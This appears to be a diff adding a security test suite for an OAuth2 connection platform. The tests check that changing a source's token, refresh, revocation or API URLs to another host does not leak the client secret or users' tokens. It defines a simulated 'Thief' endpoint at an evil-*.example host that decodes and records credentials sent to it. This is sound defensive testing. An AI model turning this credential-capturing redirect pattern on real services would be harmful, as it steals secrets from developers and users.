@@ -1,0 +1,152 @@
+import { describe, expect, it } from 'vitest';
+import { faultsOf, ok, refused } from '../worker/harness/answers.ts';
+import { Browser } from '../worker/harness/browser.ts';
+import { comeBack, createConnection, linkedConnection, openLink } from '../worker/harness/link.ts';
+import { createApplication, createDeveloper, manage } from '../worker/harness/management.ts';
+import { OAuth2Provider } from '../worker/harness/oauth2-provider.ts';
+import { type Exchanged, finishedRun, Run } from '../worker/harness/run.ts';
+import { World } from '../worker/harness/world.ts';
+
+// A key that may edit a data source, and no more, points it at a host of its own: what would it be sent?
+
+/** A host that takes what it is given. */
+class Thief {
+  readonly host: string;
+  readonly taken: string[] = [];
+
+  constructor(world: World) {
+    this.host = `evil-${world.tag}.example`;
+    world.internet.host(this.host, async (request) => {
+      const body = new TextDecoder().decode(await request.arrayBuffer());
+      const basic = request.headers.get('Authorization')?.replace(/^Basic /, '') ?? '';
+      let plain = basic;
+      try {
+        plain = decodeURIComponent(atob(basic).replaceAll('+', ' '));
+      } catch {
+        // Not Basic: as it came.
+      }
+      this.taken.push(`${request.url} ${plain} ${body}`);
+      return Response.json({ access_token: 'x', id: 'x' });
+    });
+  }
+}
+
+/** A developer with a source whose secret only its founder knows, and a key that may edit maps. */
+async function shop() {
+  const world = new World();
+  const { key } = await createDeveloper(world);
+  const provider = new OAuth2Provider(world);
+  const thief = new Thief(world);
+  const source = await provider.define({}, key);
+  const editor = await ok<{ key: string }>(
+    manage(
+      world,
+      'POST',
+      '/keys',
+      { name: 'editor', scopes: ['maps:read', 'maps:write', 'connections:write'] },
+      key,
+    ),
+  );
+  return { world, key, editor: editor.key, provider, thief, source };
+}
+
+describe('a changed URL', () => {
+  it.each([
+    ['access_token_url', 'token'],
+    ['refresh_url', 'refresh'],
+    ['revocation_url', 'revoke'],
+    ['metadata_url', 'me'],
+    ['api_host_url', ''],
+  ])('%s on another host demands the secret again', async (field, path) => {
+    const { world, editor, provider, thief, source } = await shop();
+    const { id } = await linkedConnection(world, provider, source, { key: editor });
+    const change = { [field]: `https://${thief.host}/${path}` };
+    const answer = manage(world, 'PATCH', `/sources/${source.id}`, change, editor);
+    const faults = faultsOf(await refused(answer, 400, 'invalid_request'));
+    expect(faults.client_secret).toContain(thief.host);
+    for (const secret of [{ client_secret: { set: true } }, { client_id: provider.clientId }]) {
+      const again = manage(world, 'PATCH', `/sources/${source.id}`, { ...change, ...secret }, editor);
+      await refused(again, 400, 'invalid_request');
+    }
+    await linkedConnection(world, provider, source, { key: editor });
+    await manage(world, 'DELETE', `/connections/${id}`, undefined, editor);
+    expect(thief.taken).toEqual([]);
+  });
+
+  it('in a map’s document does too', async () => {
+    const { world, editor, thief, source } = await shop();
+    const { source: document } = await ok<{ source: { auth: object } }>(
+      manage(world, 'GET', `/maps/${source.id}`, undefined, editor),
+    );
+    const evil = `https://${thief.host}`;
+    for (const changed of [
+      { ...document, url: evil },
+      { ...document, auth: { ...document.auth, access_token: `${evil}/token` } },
+      { ...document, meta: { endpoint: { route: `${evil}/me` } } },
+    ]) {
+      await refused(manage(world, 'PUT', `/maps/${source.id}`, changed, editor), 400, 'invalid_request');
+    }
+    expect(thief.taken).toEqual([]);
+  });
+
+  it('with the secret of its own gets that one, and never the old', async () => {
+    const { world, editor, provider, thief, source } = await shop();
+    const made = await createConnection(world, source, {}, editor);
+    const browser = new Browser(world);
+    const callback = provider.consent(await openLink(browser, made.redirectUrl));
+    const change = { access_token_url: `https://${thief.host}/token`, client_secret: 'a guess' };
+    await ok(manage(world, 'PATCH', `/sources/${source.id}`, change, editor));
+    await comeBack(browser, callback);
+    // The guard's other side: the host is called, with what was entered for it.
+    expect(thief.taken.length).toBeGreaterThan(0);
+    expect(thief.taken.join('\n')).toContain('a guess');
+    expect(thief.taken.join('\n')).not.toContain(provider.clientSecret);
+  });
+
+  it('takes no user’s tokens along: a Connection made before isn’t called at the new host', async () => {
+    const { world, key, editor, provider, thief, source } = await shop();
+    const application = await createApplication(world, {}, key);
+    const run = await finishedRun(world, application, provider, source);
+    const { accessToken } = await ok<Exchanged>(run.exchange({ clientUserId: 'user-1' }));
+    const headers = { Authorization: `Bearer ${accessToken}` };
+    await ok(world.request(`/proxy/${source.id}/me`, { headers }));
+    const change = { api_host_url: `https://${thief.host}`, client_secret: 'a guess' };
+    await manage(world, 'PATCH', `/sources/${source.id}`, change, editor);
+    const answer = await world.request(`/proxy/${source.id}/me`, { headers });
+    expect(thief.taken.join('\n')).not.toContain(provider.issued[0]);
+    expect(answer.status).toBe(409);
+  });
+});
+
+describe('an application’s own credentials at a source', () => {
+  it('are not used where the source has moved, until they are entered again', async () => {
+    const world = new World();
+    const { key } = await createDeveloper(world);
+    const provider = new OAuth2Provider(world);
+    const thief = new Thief(world);
+    // The platform's source, which its administrator moves; the credentials are the developer's.
+    const source = await provider.define({ client_id: null, client_secret: null });
+    const application = await createApplication(world, {}, key);
+    const path = `/applications/${application.clientId}/sources/${source.id}`;
+    const credentials = { client_id: provider.clientId, client_secret: provider.clientSecret };
+    await ok(manage(world, 'PUT', path, credentials, key));
+    const run = await Run.fromPage(world, application);
+    await ok(run.bind());
+    const callback = await run.consent(provider, source);
+
+    const change = { access_token_url: `https://${thief.host}/token` };
+    await ok(manage(world, 'PATCH', `/sources/${source.id}`, change));
+    await run.callback(callback);
+    const later = await Run.fromPage(world, application);
+    const view = await ok<{ sources: { id: string }[] }>(later.bind());
+    expect(view.sources.map(({ id }) => id)).not.toContain(source.id);
+    expect(thief.taken).toEqual([]);
+
+    await refused(manage(world, 'PUT', path, { enabled: true }, key), 400, 'invalid_request');
+    await ok(manage(world, 'PUT', path, credentials, key));
+    const again = await Run.fromPage(world, application);
+    expect((await ok<{ sources: { id: string }[] }>(again.bind())).sources.map(({ id }) => id)).toContain(
+      source.id,
+    );
+  });
+});
